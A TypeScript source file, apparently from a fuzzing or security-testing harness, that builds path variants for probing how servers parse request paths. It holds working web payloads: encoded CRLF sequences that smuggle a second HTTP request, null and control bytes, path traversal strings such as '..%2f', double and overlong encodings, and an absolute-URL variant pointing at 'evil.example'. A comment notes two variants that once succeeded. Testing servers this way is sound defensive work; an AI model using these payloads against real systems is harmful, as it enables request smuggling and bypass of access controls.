/** A second request that becomes real if a server decodes the encoded line breaks of a path. */
const HIDDEN = [
  ...['Host:127.0.0.1', 'Content-Length:0', '', 'GET%20/logged%20HTTP/1.1', 'Host:127.0.0.1'],
  ...['X-Request-Id:smuggled', 'X-Rest:'],
].join('%0d%0a')

/** Ends the request inside the path, so that the rest of the path starts another request. */
const SECOND_REQUEST = '%0d%0aHost:127.0.0.1%0d%0aContent-Length:0%0d%0a%0d%0aGET%20'

/** Texts inserted into a path at several places. */
const INSERTS = [
  ...['%0d%0a', '%0D%0A', '%0d', '%0a', '%00', '%01', '%09', '%1f', '%1F', '%7f', '%7F', '%20'],
  ...['%3f', '%3F', '%23', '%2f', '%2F..', '%2f..%2f', '%2f..%2f..', '..%2f', '%2e%2e', '%5c..'],
  ...['%25', '%250d%250a', '%25250a', '%e5%98%8a%e5%98%8d', '%c0%8d%c0%8a', '%u000d%u000a', '%'],
  ...['%zz', '%0', ';a=b', '..;', '//', '/./', '/../', '\\', '#', '\r', '\n', '\0', '\t', '\x7f'],
  ...['\x01', ' ', ' HTTP/1.1', '\r\nX-Request-Id: smuggled', '\nX-Request-Id: smuggled', '\xff'],
  ...[`%0d%0a${HIDDEN}`, `%20HTTP/1.1%0d%0a${HIDDEN}`, `%0a${HIDDEN.replaceAll('%0d', '')}`],
  ...['a'.repeat(300), 'a'.repeat(9000), 'a'.repeat(33_000), '%41'.repeat(2000)],
]

interface PathVariant {
  name: string
  spell: (path: string) => string
}

const cut = (path: string) => path.lastIndexOf('/')

/** Ways to write a path whose end, split or resolution servers may read differently. */
export const PATH_VARIANTS: PathVariant[] = [
  // The two variants that once succeeded come first, so that every run includes them.
  {
    name: 'a second request',
    spell: (path) => path.replace('/1/', `/1${SECOND_REQUEST}/`),
  },
  { name: 'live behind a mark', spell: (path) => `${path}%3F/live` },
  ...INSERTS.flatMap((text) => [
    { name: `after ${label(text)}`, spell: (path: string) => path + text },
    {
      name: `within ${label(text)}`,
      spell: (path: string) => `${path.slice(0, cut(path))}${text}${path.slice(cut(path))}`,
    },
    {
      name: `segment ${label(text)}`,
      spell: (path: string) => path.replace(/\/(?:1|lyon|ab12|logged)(?=\/|$)/, `/1${text}`),
    },
    { name: `query ${label(text)}`, spell: (path: string) => `${path}?a=${text}` },
  ]),
  { name: 'upper case', spell: (path) => path.toUpperCase() },
  { name: 'encoded letters', spell: (path) => path.replace(/[a-z]/, percent) },
  { name: 'doubled slashes', spell: (path) => path.replaceAll('/', '//') },
  { name: 'final slash', spell: (path) => `${path}/` },
  { name: 'absolute', spell: (path) => `http://evil.example${path}` },
  { name: 'absolute, own host', spell: (path) => `http://127.0.0.1${path}` },
  { name: 'without a slash', spell: (path) => path.slice(1) },
  { name: 'resolved', spell: (path) => `/x/..${path}` },
]

function percent(letter: string): string {
  return `%${letter.charCodeAt(0).toString(16)}`
}

function label(text: string): string {
  return JSON.stringify(text.length > 24 ? `${text.slice(0, 24)}…` : text)
}
